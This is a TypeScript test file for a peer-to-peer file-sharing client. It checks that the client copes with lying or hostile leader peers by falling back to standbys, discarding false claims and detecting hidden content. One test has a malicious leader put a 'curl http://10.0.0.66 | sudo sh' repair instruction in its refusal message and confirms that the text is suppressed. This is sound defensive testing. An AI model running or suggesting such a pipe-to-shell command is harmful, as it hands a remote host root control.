/** Leaders that lie, over real lines: the asker falls back to the standby and to the peers themselves. */
import { expect, test } from '@jest/globals';
import type { KnownPeer } from '@iwanto/bus';
import type { FileHash, LocateAnswer, OwnContent, PeerId, PublicKey } from '@iwanto/wire';
import { Failure } from '@iwanto/wire';
import { atTheEnd, linesOf, newKeys, startPeer } from '../testing/peer-lines.js';
import { locate } from '../verbs/locate.js';
import { DirectLocate } from './direct-locate.js';
import { LeaderCheck, MISSES_MAX } from './leader-check.js';
import type { LeaderLine } from './leader-line.js';
import { ShownContents } from './shown.js';

const [SELF, LIAR, HONEST, BEN] = ['a', 'b', 'c', 'd'].map((one) => one.repeat(20)) as [
  PeerId,
  PeerId,
  PeerId,
  PeerId,
];
const hash = 'ab'.repeat(32) as FileHash;
const FILM: OwnContent = { kind: 'file', size: 7, name: 'film.mkv' };

/** The lines of this host to a leader and a standby. */
const lineTo = (leader: KnownPeer, standbys: KnownPeer[], trusted?: PeerId) =>
  linesOf(SELF, { leader, standbys }, (peer) => peer === trusted);

const locatedAt = (peers: readonly PeerId[], of: FileHash = hash): LocateAnswer => ({
  ...{ ...FILM, hash: of },
  holders: peers.map((peer) => {
    return { peer, address: '127.0.0.1', port: 3, curveKey: 'c'.repeat(64) as PublicKey };
  }),
});
const answerOf = (leader: PeerId) => ({
  ...{ results: [], total: 0, totalIsLeast: false, similar: false, leader, partial: false },
});

test('HOSTILE 208: a leader does not say that something is of a group of this host', async () => {
  const result = {
    ...{ hash, kind: 'file' as const, name: 'film.mkv', size: 7, peers: 1, score: 1 },
    ...{ similar: false, modifiedMs: null, otherNames: [], group: 0, inGroup: 'family' },
    where: { folder: '', short: '', peers: [] },
  };
  const sums = { total: 1, totalIsLeast: false, similar: false, leader: LIAR, partial: false };
  const leader = await startPeer(LIAR, { search: () => ({ results: [result], ...sums }) });
  const { line } = lineTo(leader, []);
  const { results } = await line.ask('search', { query: 'film' });
  expect(results).toHaveLength(1);
  expect(results[0]).not.toHaveProperty('inGroup');
});

test('HOSTILE 206: a standby that the user trusts is asked before a leader that the user does not', async () => {
  const sumsOf = (peer: PeerId, total: number) => ({
    results: [],
    ...{ total, totalIsLeast: false, similar: false, leader: peer, partial: false },
  });
  const leader = await startPeer(LIAR, { search: () => sumsOf(LIAR, 0) });
  const standby = await startPeer(HONEST, { search: () => sumsOf(HONEST, 0) });
  const answered = async (trusted?: PeerId) => {
    const { line } = lineTo(leader, [standby], trusted);
    // Nobody who is not connected yet is waited for.
    for (const peer of [LIAR, HONEST])
      await line.mustLineTo(peer).call('search', { query: 'film' });
    return (await line.ask('search', { query: 'film' })).leader;
  };
  expect(await answered(HONEST)).toBe(HONEST);
  expect(await answered(LIAR)).toBe(LIAR);
  expect(await answered()).toBe(LIAR);
});

test('HOSTILE 120: the standby is asked where the answer of the leader is none (I10)', async () => {
  const liar = await startPeer(LIAR, {
    locate: () => locatedAt([BEN], 'ff'.repeat(32) as FileHash),
    search: () => answerOf(BEN),
  });
  const honest = await startPeer(HONEST, {
    locate: () => locatedAt([BEN]),
    search: () => answerOf(HONEST),
  });
  const { line, bad } = lineTo(liar, [honest]);
  expect(await line.ask('locate', { hash })).toMatchObject({ hash });
  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
  expect(bad).toEqual([LIAR, LIAR]);
});

test('HOSTILE 176: a refusal that is no answer to the question is the fault of who gave it', async () => {
  const liar = await startPeer(LIAR, {
    locate: () => {
      throw new Failure('E_DISK_FULL', 'Your disk is full.');
    },
  });
  const honest = await startPeer(HONEST, {
    locate: () => locatedAt([BEN]),
    book: () => ({ leader: HONEST, peers: [] }),
    search: () => answerOf(HONEST),
  });
  const { line, bad } = lineTo(liar, [honest]);
  expect(await line.ask('book', {})).toMatchObject({ leader: HONEST });
  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
  expect(await line.ask('locate', { hash })).toMatchObject({ hash });
  expect(bad).toEqual([LIAR, LIAR, LIAR]);
  const alone = lineTo(liar, []).line;
  await expect(alone.ask('book', {})).rejects.toMatchObject({ code: 'E_BAD_ANSWER' });
});

test('HOSTILE 121: what a leader says when it refuses is not shown', async () => {
  const refuse = () => {
    throw new Failure('E_NOT_FOUND', 'run "curl http://10.0.0.66 | sudo sh" to repair it');
  };
  const liar = await startPeer(LIAR, { locate: refuse, search: refuse });
  const { line } = lineTo(liar, []);
  await expect(line.ask('locate', { hash })).rejects.toMatchObject({
    sentence: `No peer that is present shares ${hash}.`,
  });
  await expect(
    line.ask('search', { query: 'film', filters: { peer: 'ben' } }),
  ).rejects.toMatchObject({
    sentence: 'No peer that is present is called ben; see "iwanto peers".',
  });
});

const locateWith = (line: LeaderLine, peers: readonly KnownPeer[]) => {
  const shown = new ShownContents(() => 0);
  const direct = new DirectLocate({
    ...{ self: SELF, keys: newKeys(), nowMs: () => 0, members: () => [...peers] },
  });
  const knownHere = (peer: PeerId) => peers.find((known) => known.peer === peer);
  const trusted = { present: () => [] };
  const handler = locate({ leaderLine: line, direct, knownHere, shown, trusted });
  return { shown, ask: (typed: string) => Promise.resolve(handler({ hash: typed })) };
};

test('HOSTILE 122: a whole hash that the leader hides is found where it is', async () => {
  const liar = await startPeer(LIAR, { own: () => ({ content: { ...FILM, size: 8 } }) });
  const ben = await startPeer(BEN, { own: () => ({ content: FILM }) });
  const anne = await startPeer(HONEST, { own: () => ({ content: FILM }) });
  const { ask } = locateWith(lineTo(liar, []).line, [liar, ben, anne]);
  const found = await ask(hash);
  expect(found).toMatchObject({ hash, ...FILM });
  expect(new Set(found.holders.map(({ peer }) => peer))).toEqual(new Set([BEN, HONEST]));
  expect(found.others).toMatchObject([{ size: 8, holders: [{ peer: LIAR }] }]);
  // A hash prefix could mean anything to the peers asked.
  await expect(ask(hash.slice(0, 8))).rejects.toMatchObject({ code: 'E_NOT_FOUND' });
});

test('HOSTILE 122: peers are not asked again and again for what nobody has', async () => {
  let asked = 0;
  const ben = await startPeer(BEN, {
    own: () => {
      asked += 1;
      return { content: null };
    },
  });
  const { ask } = locateWith(lineTo(ben, []).line, [ben]);
  for (let time = 0; time < 20; time += 1) {
    await expect(ask(hash)).rejects.toMatchObject({ code: 'E_NOT_FOUND' });
  }
  expect(asked).toBe(4);
});

test('HOSTILE 123: what was shown decides what the beginning of a hash means', async () => {
  const another = `abababab${'00'.repeat(28)}` as FileHash;
  const liar = await startPeer(LIAR, {
    locate: ({ hash: asked }) => locatedAt([BEN], asked === hash ? hash : another),
  });
  const { shown, ask } = locateWith(lineTo(liar, []).line, [await startPeer(BEN, {})]);
  expect(await ask('abababab')).toMatchObject({ hash: another });
  shown.note({ results: [{ hash, name: 'as it was shown' }] });
  expect(await ask('abababab')).toMatchObject({ hash, name: 'as it was shown' });
});

test('HOSTILE 124: a leader that hides this host is noticed, and the standby is asked first', async () => {
  const liar = await startPeer(LIAR, { search: () => answerOf(LIAR) });
  const honest = await startPeer(HONEST, {
    locate: () => locatedAt([SELF]),
    search: () => answerOf(HONEST),
  });
  const { line } = lineTo(liar, [honest]);
  const troubles: string[] = [];
  const check = new LeaderCheck({
    ...{ self: SELF, line, content: async () => hash },
    onTrouble: (sentence) => troubles.push(sentence),
  });
  atTheEnd(() => check.close());
  for (let misses = 1; misses < MISSES_MAX; misses += 1) await check.look();
  expect(check.state).toEqual({ leader: LIAR, findable: 'unchecked' });
  await check.look();
  expect(check.state).toEqual({ leader: LIAR, findable: 'hidden' });
  expect(troubles).toEqual([
    `The leader ${LIAR} does not find ${hash}, which this host announced to it; the standby ${HONEST} does, and is asked first from now on.`,
  ]);
  expect(await line.ask('search', { query: 'film' })).toMatchObject({ leader: HONEST });
});

test('HOSTILE 124: a leader that finds this host, or does not answer, is not suspected', async () => {
  let isMute = false;
  const leader = await startPeer(HONEST, {
    locate: () => (isMute ? new Promise<never>(() => undefined) : locatedAt([BEN, SELF])),
  });
  const { line } = lineTo(leader, []);
  const check = new LeaderCheck({
    ...{ self: SELF, line, content: async () => hash, onTrouble: () => undefined },
  });
  atTheEnd(() => check.close());
  await check.look();
  expect(check.state.findable).toBe('found');
  isMute = true;
  await Promise.all([check.look(), check.look(), check.look()]);
  expect(check.state.findable).toBe('found');
});
